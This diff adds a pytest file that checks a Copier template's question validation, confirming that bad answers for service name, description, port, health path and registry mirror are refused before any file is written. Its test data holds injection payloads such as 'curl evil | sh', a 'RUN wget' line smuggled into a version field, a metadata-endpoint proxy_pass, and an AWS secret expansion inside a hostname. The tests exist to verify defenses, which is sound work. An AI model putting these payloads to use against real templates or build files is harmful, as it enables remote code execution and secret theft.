@@ -1,0 +1,148 @@
+"""The questions: their names and values are public interface, and a bad answer is refused before a file is written."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from copier.errors import UserMessageError
+from hypothesis import given
+from hypothesis import strategies as st
+from plumbum import local
+
+from extensions import dockwright
+from tests.conftest import ROOT, Render, render_into
+
+NAMES = [
+    *["service_name", "description", "stack", "framework", "database", "cache", "customise"],
+    *["runtime_version", "package_manager", "base_image", "port", "health_path"],
+    *["registry_mirror", "private_ca", "private_index", "smoke_build"],
+]
+
+# The answer, and what the message has to say beside its name.
+REFUSED: list[tuple[dict[str, Any], str]] = [
+    ({"service_name": "Orders API"}, "lower-case letters"),
+    ({"service_name": "x$(shell touch /tmp/p)"}, "lower-case letters"),
+    ({"service_name": "${{ secrets.TOKEN }}"}, "lower-case letters"),
+    ({"service_name": "orders\n"}, "lower-case letters"),
+    ({"service_name": "a" * 41}, "2 to 40"),
+    ({"service_name": "orders-"}, "no hyphen last"),
+    ({"description": 'x"\nRUN curl evil | sh'}, "one line"),
+    ({"description": "ends in \\"}, "without backslash"),
+    ({"description": "\n# syntax=evil/frontend"}, "one line"),
+    ({"description": "a\nprivileged: true"}, "one line"),
+    ({"description": "costs $PATH"}, "without backslash"),
+    ({"description": "line\u2028separator"}, "one line"),
+    ({"description": "x" * 201}, "at most 200"),
+    ({"registry_mirror": "${AWS_SECRET_ACCESS_KEY}.evil.io"}, "registry"),
+    ({"registry_mirror": "https://mirror.example.com"}, "without https://"),
+    ({"registry_mirror": "mirror.example.com/"}, "without a slash last"),
+    ({"health_path": "/h; curl evil|sh"}, "a path that begins with /"),
+    ({"health_path": "/h { } location / { proxy_pass http://169.254.169.254; } #"}, "a path that begins with /"),
+    ({"health_path": "health"}, "a path that begins with /"),
+    ({"port": 22}, "1024 to 65535"),
+    ({"port": "0"}, "1024 to 65535"),
+    ({"port": 65536}, "1024 to 65535"),
+    ({"port": "80:80"}, "1024 to 65535"),
+    ({"port": "abc"}, "1024 to 65535"),
+    ({"port": True}, "1024 to 65535"),
+    ({"port": "\uff18\uff10\uff18\uff10"}, "1024 to 65535"),
+    ({"stack": "cobol"}, "python"),
+    ({"framework": "django"}, "fastapi"),
+    ({"database": "oracle"}, "postgres"),
+    ({"cache": "../../etc"}, "redis"),
+    ({"runtime_version": "2.7"}, "3.14"),
+    ({"runtime_version": "3.14\nRUN wget evil"}, "3.14"),
+    ({"package_manager": "npm"}, "uv"),
+    ({"base_image": "scratch"}, "slim"),
+    ({"base_image": "distroless"}, "runtime_version 3.13"),
+    ({"private_ca": "perhaps"}, "yes or no"),
+    ({"smoke_build": "often"}, "auto"),
+]
+
+
+@pytest.mark.parametrize(
+    ("answers", "holds"), REFUSED, ids=lambda part: str(part)[:40].encode("unicode_escape").decode()
+)
+def test_a_bad_answer_is_refused_by_name_and_leaves_nothing_behind(
+    template: Path, tmp_path: Path, answers: dict[str, Any], holds: str
+) -> None:
+    target = tmp_path / "orders"
+    with pytest.raises(UserMessageError) as refused:
+        render_into(template, target, **answers)
+    assert str(refused.value).startswith(f"{next(iter(answers))}: ")
+    assert holds in str(refused.value)
+    assert not target.exists()
+
+
+@pytest.mark.parametrize("answer", ["service_name=Bad Name", "port=80", "stack=cobol"])
+def test_the_command_line_prints_one_message_and_no_traceback(template: Path, tmp_path: Path, answer: str) -> None:
+    command = local["copier"] if not (local.path(".venv") / "bin" / "copier").exists() else local[".venv/bin/copier"]
+    code, out, err = command[
+        "copy", "--trust", "--defaults", "--data", answer, str(template), str(tmp_path / "orders")
+    ].run(retcode=None)
+    assert code == 1
+    assert "Traceback" not in out + err
+    assert f"{answer.split('=', maxsplit=1)[0]}: " in err
+    assert "is refused" in err
+    assert not (tmp_path / "orders").exists()
+
+
+def test_a_name_and_a_stack_are_enough(render: Render) -> None:
+    for stack in dockwright.stacks():
+        folder = render(f"{stack}-orders", stack=stack)
+        answers = yaml.safe_load((folder / ".copier-answers.yml").read_text(encoding="utf-8"))
+        assert answers["service_name"] == f"{stack}-orders"
+
+
+def test_every_answer_is_recorded_though_only_the_first_group_is_asked(render: Render) -> None:
+    answers = yaml.safe_load((render() / ".copier-answers.yml").read_text(encoding="utf-8"))
+    assert sorted(name for name in answers if not name.startswith("_")) == sorted(NAMES)
+    assert answers["port"] == 8000
+
+
+def test_an_answer_behind_customise_counts_without_customise(render: Render) -> None:
+    folder = render(port=9001, base_image="alpine")
+    answers = yaml.safe_load((folder / ".copier-answers.yml").read_text(encoding="utf-8"))
+    assert (answers["customise"], answers["port"], answers["base_image"]) == (False, 9001, "alpine")
+
+
+def test_the_questions_stand_in_the_documented_order() -> None:
+    text = (ROOT / "copier.yml").read_text(encoding="utf-8")
+    assert re.findall(r"^([a-z]\w+):$", text, re.M) == NAMES
+
+
+@pytest.mark.parametrize(
+    ("folder", "name"),
+    [
+        ("orders", "orders"),
+        ("Orders API", "orders-api"),
+        ("123-orders_v2", "orders-v2"),
+        ("---", "service"),
+        ("x", "service"),
+        ("a" * 60, "a" * 40),
+    ],
+)
+def test_the_default_name_comes_from_the_folder(tmp_path: Path, folder: str, name: str) -> None:
+    assert dockwright.default_service_name(tmp_path / folder) == name
+
+
+@given(st.text())
+def test_a_default_name_is_always_accepted(folder: str) -> None:
+    name = dockwright.default_service_name("/" + folder.replace("\0", ""))
+    assert dockwright.refusal("service_name", name) == ""
+
+
+@given(st.text(), st.sampled_from(["service_name", "description", "registry_mirror", "health_path"]))
+def test_no_accepted_text_carries_a_line_break_or_a_shell_or_compose_expansion(text: str, question: str) -> None:
+    if dockwright.refusal(question, text) == "":
+        assert not re.search(r"[\x00-\x1f\x7f\u0085\u2028\u2029`$\\\"]", text)
+
+
+@given(st.one_of(st.integers(), st.text(), st.none(), st.floats(), st.booleans()))
+def test_an_accepted_port_is_a_whole_number_in_range(answer: object) -> None:
+    if dockwright.refusal("port", answer) == "":
+        assert 1024 <= int(str(answer)) <= 65535
